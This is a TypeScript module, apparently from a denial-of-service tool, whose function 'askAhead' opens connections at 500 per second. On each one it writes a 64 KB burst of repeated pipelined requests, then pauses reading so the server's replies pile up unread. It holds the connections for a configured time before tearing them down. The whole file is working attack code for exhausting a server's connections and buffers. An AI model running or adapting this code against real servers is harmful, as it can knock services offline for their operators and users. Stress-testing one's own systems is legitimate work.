// Connections that send as many requests at once as one reading of a server takes, read no answer, and stay for a while.

import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from './attack';
import { openConnections } from './open-connections';

const CHUNK = 64 * 1024;
const PER_SECOND = 500;

/** How many could not be opened. */
export async function askAhead(attack: Extract<Attack, { kind: 'ahead' }>): Promise<number> {
  const requests = Buffer.from(attack.request.repeat(Math.floor(CHUNK / attack.request.length)), 'latin1');
  const sockets: Socket[] = [];
  const { refused } = await openConnections({ ...attack, perSecond: PER_SECOND }, (socket) => {
    sockets.push(socket);
    socket.pause();
    socket.write(requests);
  });
  await sleep(attack.forMs);
  for (const socket of sockets) socket.destroy();
  return refused;
}
